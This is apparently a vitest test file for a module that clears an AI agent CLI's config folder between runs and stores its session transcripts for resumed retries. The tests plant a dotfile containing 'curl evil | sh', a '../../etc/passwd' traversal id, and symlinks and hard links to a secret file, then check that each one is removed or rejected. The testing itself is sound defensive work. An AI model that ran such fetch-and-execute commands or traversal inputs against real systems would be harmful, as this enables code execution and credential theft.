// An agent's CLI config folder between runs: emptied after each, its session transcripts kept
// out of the agents' reach in a bounded store, and carried back for a retry's --resume.
import { randomUUID } from "node:crypto";
import {
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  carrySession,
  MAX_KEPT_SESSIONS,
  projectDir,
  resetConfig,
  sessionStore,
} from "./sessions.ts";

describe("session transcripts between runs", () => {
  let agents: string;
  const config = (agent: string) => path.join(agents, agent, "claude-config");
  const store = (agent: string) => sessionStore(path.join(agents, agent));
  /** Writes a transcript as the CLI does, in `agent`'s config folder for `cwd`. */
  const transcript = (agent: string, cwd: string, id = randomUUID(), text = `{"id":"${id}"}\n`) => {
    const dir = projectDir(config(agent), cwd);
    mkdirSync(dir, { recursive: true });
    writeFileSync(path.join(dir, `${id}.jsonl`), text);
    return id;
  };
  beforeEach(() => {
    agents = mkdtempSync(path.join(tmpdir(), "conductor-sessions-"));
    for (const a of ["a", "b"]) mkdirSync(config(a), { recursive: true });
  });
  afterEach(() => rmSync(agents, { recursive: true, force: true }));

  it("leaves the next run nothing of the last, and carries a transcript to a retry on another agent", async () => {
    const id = transcript("a", "/work/one");
    writeFileSync(path.join(config("a"), ".bashrc"), "curl evil | sh\n");
    mkdirSync(path.join(projectDir(config("a"), "/work/one"), "memory"));
    await resetConfig(config("a"), store("a"));
    // The next task on agent a sees an empty HOME: no earlier conversation, no dotfile.
    expect(readdirSync(config("a"))).toEqual([]);
    expect(readdirSync(store("a"))).toEqual([`${id}.jsonl`]);
    // The retry runs on agent b, in another folder: the transcript is copied there.
    expect(carrySession(agents, id, config("b"), "/work/two", undefined)).toBe(true);
    const carried = path.join(projectDir(config("b"), "/work/two"), `${id}.jsonl`);
    expect(readFileSync(carried, "utf8")).toBe(`{"id":"${id}"}\n`);
    // What the resumed run appended is what the store keeps after it.
    writeFileSync(carried, "more\n", { flag: "a" });
    await resetConfig(config("b"), store("b"));
    expect(readFileSync(path.join(store("b"), `${id}.jsonl`), "utf8")).toMatch(/more\n$/);
    expect(carrySession(agents, randomUUID(), config("a"), "/w", undefined)).toBe(false);
    expect(carrySession(agents, "../../etc/passwd", config("a"), "/w", undefined)).toBe(false);
  });

  it("keeps no link an agent planted as a transcript, and none of what it points at", async () => {
    const secret = path.join(agents, "secret.txt");
    writeFileSync(secret, "root's own\n");
    const dir = projectDir(config("a"), "/w");
    mkdirSync(dir, { recursive: true });
    const [soft, hard] = [randomUUID(), randomUUID()];
    symlinkSync(secret, path.join(dir, `${soft}.jsonl`));
    linkSync(secret, path.join(dir, `${hard}.jsonl`));
    // A project folder that is a link to another agent's store is not walked either.
    const theirs = transcript("b", "/x");
    await resetConfig(config("b"), store("b"));
    symlinkSync(store("b"), path.join(config("a"), "projects", "-elsewhere"));
    await resetConfig(config("a"), store("a"));
    expect(existsSync(store("a"))).toBe(false);
    expect(readdirSync(config("a"))).toEqual([]);
    expect(readFileSync(secret, "utf8")).toBe("root's own\n");
    expect(readdirSync(store("b"))).toEqual([`${theirs}.jsonl`]);
  });

  it(`keeps the newest ${MAX_KEPT_SESSIONS} transcripts of an agent, not every one it ever wrote`, async () => {
    const ids: string[] = [];
    const t0 = Date.now() / 1000 - 10_000;
    for (let i = 0; i < MAX_KEPT_SESSIONS + 10; i++) {
      const id = transcript("a", `/w/${i % 3}`);
      const file = path.join(projectDir(config("a"), `/w/${i % 3}`), `${id}.jsonl`);
      utimesSync(file, t0 + i, t0 + i); // written one after another
      ids.push(id);
    }
    await resetConfig(config("a"), store("a"));
    const kept = readdirSync(store("a")).sort();
    expect(kept).toEqual(
      ids
        .slice(10)
        .map((id) => `${id}.jsonl`)
        .sort(),
    );
  });
});
